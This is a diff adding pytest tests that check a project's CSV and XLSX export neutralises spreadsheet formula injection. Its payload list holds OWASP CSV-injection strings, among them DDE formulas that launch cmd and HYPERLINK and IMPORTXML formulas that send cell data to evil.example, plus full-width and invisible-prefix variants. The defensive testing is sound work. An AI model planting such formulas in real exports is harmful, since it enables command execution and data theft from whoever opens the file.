@@ -130,3 +130,60 @@ def test_unknown_batch(sf, tmp_path):
 def test_money_values_are_decimal_in_store(sf, batch_id):
     with sf() as session:
         assert store.batch_rows(session, batch_id)[0].mrc == Decimal("1234567.89")
+
+
+# OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), then each
+# with its first sign in full-width and small forms, and behind spaces a spreadsheet skips.
+OWASP_PAYLOADS = [
+    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Error\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")", "\t=1+1", "\r=1+1",
+    "\n=1+1", "-1+1", "+1+1", "@A1",
+]
+_WIDE_FORMS = {"=": ("\uff1d", "\ufe66"), "+": ("\uff0b", "\ufe62"), "-": ("\uff0d", "\ufe63"),
+               "@": ("\uff20", "\ufe6b")}
+HOSTILE = OWASP_PAYLOADS + [
+    form + p[1:] for p in OWASP_PAYLOADS if p[0] in _WIDE_FORMS for form in _WIDE_FORMS[p[0]]
+] + [" =1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff@SUM(1)"]
+
+
+@pytest.mark.parametrize("payload", HOSTILE, ids=[ascii(p)[:30] for p in HOSTILE])
+def test_every_injection_payload_is_neutralised(payload):
+    assert neutralise(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("number", ["-5", "+1.5", "12", "-0.25", ".5"])
+def test_plain_numbers_are_left_as_numbers(number):
+    assert neutralise(number) == number
+
+
+def test_no_exported_cell_is_live_in_csv_or_xlsx(sf, tmp_path):
+    rows = []
+    for n, payload in enumerate(HOSTILE, start=2):
+        row = checked_row(n)
+        row.original["Note"] = payload
+        rows.append(row)
+    rows[0].original["Site"] = "-5"  # a plain number stays one
+    batch_id = store.create_batch(sf, FakeImport(rows), defaults=BatchDefaults(), source_name="s.csv")
+    clock = FakeClock()
+    Processor(sf, FakeMomentum(clock), clock=clock).run_batch(batch_id)
+    csv_path, xlsx_path = tmp_path / "o.csv", tmp_path / "o.xlsx"
+    export_batch(sf, batch_id, csv_path)
+    export_batch(sf, batch_id, xlsx_path)
+    written = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
+    notes = [r[5] for r in written[1:]]
+    assert [n.startswith("'") for n in notes] == [True] * len(HOSTILE)
+    assert written[1][0] == "-5"
+    wb = openpyxl.load_workbook(xlsx_path)
+    try:
+        ws = wb.active
+        header = [c.value for c in ws[1]]
+        note_at, mrc_at = header.index("Note") + 1, header.index("MRC") + 1
+        for r in range(2, len(HOSTILE) + 2):
+            cell = ws.cell(row=r, column=note_at)
+            assert cell.data_type == "s" and cell.value.startswith("'"), (r, cell.value)
+            assert isinstance(ws.cell(row=r, column=mrc_at).value, (int, float))
+        assert ws.cell(row=2, column=1).value == "-5"
+    finally:
+        wb.close()
